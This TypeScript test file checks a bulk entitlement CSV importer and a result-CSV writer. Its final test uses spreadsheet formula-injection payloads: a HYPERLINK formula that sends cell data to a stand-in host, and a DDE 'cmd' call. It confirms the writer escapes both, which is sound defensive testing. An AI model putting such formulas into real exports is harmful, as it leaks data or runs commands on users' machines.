// Reading a bulk file: the CSV forms people's tools write (quotes, a byte order mark, CRLF, a field over two lines),
// the header's rules, the errors that refuse the whole file with the line they found, and each row's own checks.
import { describe, expect, test } from "bun:test";
import { parse } from "csv-parse/sync";
import { batchChanges } from "../../src/entitlement/features/bulk/batches.ts";
import { BulkFileError, MAX_BULK_BYTES, MAX_BULK_ROWS, readBulkFile } from "../../src/entitlement/features/bulk/csv.ts";
import { csvField, resultCsv } from "../../src/entitlement/features/bulk/result-csv.ts";
import { checkRows } from "../../src/entitlement/features/bulk/rows.ts";

const bytes = (text: string) => new TextEncoder().encode(text);
const NOW = new Date("2026-11-27T00:00:00Z");
const HEADER = "user_id,stock_keeping_unit,action,reason";

function fileError(text: string): string {
  try {
    readBulkFile(bytes(text));
  } catch (error) {
    if (error instanceof BulkFileError) return error.message;
    throw error;
  }
  throw new Error("the file was accepted");
}

describe("reading a bulk file", () => {
  test("quotes, a BOM, CRLF, blank lines and a quoted line break keep each row's own first line", () => {
    const text = `\ufeff${HEADER}\r\n"u,1",sku,grant,"said ""sorry"""\r\n\r\nu2,"a\nb",revoke,r\r\nu3,s,grant,x\r\n`;
    const file = readBulkFile(bytes(text));
    expect(file.rows.map((r) => r.line)).toEqual([2, 4, 6]);
    expect(file.rows[0]?.fields).toEqual({
      user_id: "u,1",
      stock_keeping_unit: "sku",
      action: "grant",
      reason: 'said "sorry"',
    });
    expect(file.rows[1]?.fields.stock_keeping_unit).toBe("a\nb");
    expect(file.hash).toMatch(/^[0-9a-f]{64}$/);
  });

  test("columns in any order, expires_at optional", () => {
    const file = readBulkFile(bytes("reason,action,expires_at,stock_keeping_unit,user_id\nr,grant,,s,u\n"));
    expect(file.rows[0]?.fields).toEqual({
      reason: "r",
      action: "grant",
      expires_at: "",
      stock_keeping_unit: "s",
      user_id: "u",
    });
  });

  test("a file that cannot be used says why and where", () => {
    expect(fileError(`${HEADER}\nu,s,grant,"open\nu2,s,grant,r\n`)).toMatch(
      /not valid CSV \(line 3\).*Quote Not Closed/,
    );
    expect(fileError(`${HEADER}\nu,s"x,grant,r\n`)).toContain("line 2");
    expect(fileError("")).toContain("header row is required");
    expect(fileError("user_id,stock_keeping_unit,action\n")).toBe("line 1: the header lacks reason");
    expect(fileError(`${HEADER},purchase_id\n`)).toBe("line 1: unknown column(s) purchase_id");
    expect(fileError(`${HEADER},reason\n`)).toBe("line 1: the column reason appears twice");
    expect(fileError(`${HEADER}\n${"u,s,grant,r\n".repeat(MAX_BULK_ROWS + 1)}`)).toContain("more than 10000 rows");
    expect(() => readBulkFile(new Uint8Array([0x75, 0xff, 0x0a]))).toThrow("not UTF-8");
    expect(() => readBulkFile(new Uint8Array(MAX_BULK_BYTES + 1))).toThrow(`larger than ${MAX_BULK_BYTES} bytes`);
  });
});

describe("checking rows", () => {
  const check = (body: string) => checkRows(readBulkFile(bytes(`${HEADER},expires_at\n${body}`)), NOW);

  test("each invalid row keeps its line and the API's message; valid rows become command bodies", () => {
    const { changes, invalid } = check(
      [
        "u1,s1,grant,r,2027-01-01T00:00:00+09:00",
        "u1,s2,delete,r,",
        "u1,s3,revoke,r,2027-01-01T00:00:00Z",
        "u1,s4,grant,r,2020-01-01T00:00:00Z",
        "u1,s5,grant,,",
        "u1,s6,grant,r",
        "u1,s1,revoke,r,",
        "u2,s1,REVOKE,r,",
      ].join("\n"),
    );
    expect(changes.map((c) => [c.line, c.action, c.body.expires_at])).toEqual([
      [2, "GRANT", "2026-12-31T15:00:00.000Z"],
      [9, "REVOKE", undefined],
    ]);
    expect(changes[0]?.body.purchase_id).toMatch(/^bulk:[0-9a-f]{16}:2$/);
    expect(invalid.map((r) => [r.line, r.error])).toEqual([
      [3, "action must be grant or revoke"],
      [4, "expires_at applies to a grant only"],
      [5, "expires_at must be in the future"],
      [6, "reason is required"],
      [7, "the row has 4 fields, the header 5"],
      [8, "line 2 already changes this user's stock_keeping_unit"],
    ]);
  });

  test("a user's grants with one reason and expiry are bundled, at most 100 to a bundle; revokes go one by one", () => {
    const rows = [
      ...Array.from({ length: 101 }, (_, i) => `u1,s${i},grant,r,`),
      "u1,x,grant,other,",
      "u1,y,revoke,r,",
      "u2,s1,grant,r,",
    ];
    const { changes } = check(rows.join("\n"));
    const batches = batchChanges("f".repeat(64), changes);
    expect(batches.map((b) => b.changes.length)).toEqual([100, 1, 1, 1, 1]);
    expect(new Set(batches.map((b) => b.idempotencyKey)).size, "every batch has a key of its own").toBe(5);
    const again = batchChanges("f".repeat(64), changes);
    expect(
      again.map((b) => b.idempotencyKey),
      "the same file makes the same keys",
    ).toEqual(batches.map((b) => b.idempotencyKey));
    const other = batchChanges("e".repeat(64), changes);
    expect(other[0]?.idempotencyKey, "another file makes other keys").not.toBe(batches[0]?.idempotencyKey);
    expect(batches[0]?.idempotencyKey).toMatch(/^bulk-[0-9a-f]{64}$/);
  });
});

test("the result CSV quotes what needs it and reads back", () => {
  expect(csvField('a,"b"')).toBe('"a,""b"""');
  expect(csvField(" x")).toBe('" x"');
  expect(csvField(null)).toBe("");
  const text = resultCsv([
    { line: 2, user_id: "u,1", stock_keeping_unit: "s", action: "grant", outcome: "changed", version: 0, error: null },
  ]);
  expect(text).toBe('line,user_id,stock_keeping_unit,action,outcome,version,error\r\n2,"u,1",s,grant,changed,0,\r\n');
  expect(parse(text)[1], "a CSV reader gets the values back").toEqual(["2", "u,1", "s", "grant", "changed", "0", ""]);
});

test("no cell of the result CSV starts a formula, from a valid or an invalid row", () => {
  const text = resultCsv([
    {
      line: 2,
      user_id: "=1+1",
      stock_keeping_unit: "+s",
      action: "grant",
      outcome: "changed",
      version: 0,
      error: null,
    },
    {
      line: 3,
      user_id: "@u",
      stock_keeping_unit: "-2",
      action: "\tgrant",
      outcome: "invalid",
      version: null,
      error: "\r=x",
    },
    {
      line: 4,
      user_id: '=HYPERLINK("http://x.example/?"&A1,"open")',
      stock_keeping_unit: "s",
      action: "=cmd|' /C calc'!A0",
      outcome: "invalid",
      version: null,
      error: "action must be grant or revoke",
    },
  ]);
  const cells = (parse(text) as string[][]).slice(1).flat();
  const formulas = cells.filter((cell) => /^[=+\-@\t\r]/.test(cell));
  expect(formulas, "a spreadsheet would run these cells").toEqual([]);
  const [, first, second, third] = parse(text) as string[][];
  expect(first?.slice(1, 3), "the value is kept after a quote mark that makes it text").toEqual(["'=1+1", "'+s"]);
  expect(second?.slice(1, 4)).toEqual(["'@u", "'-2", "'\tgrant"]);
  expect(second?.[6]).toBe("'\r=x");
  expect(third?.[1]).toBe(`'=HYPERLINK("http://x.example/?"&A1,"open")`);
});
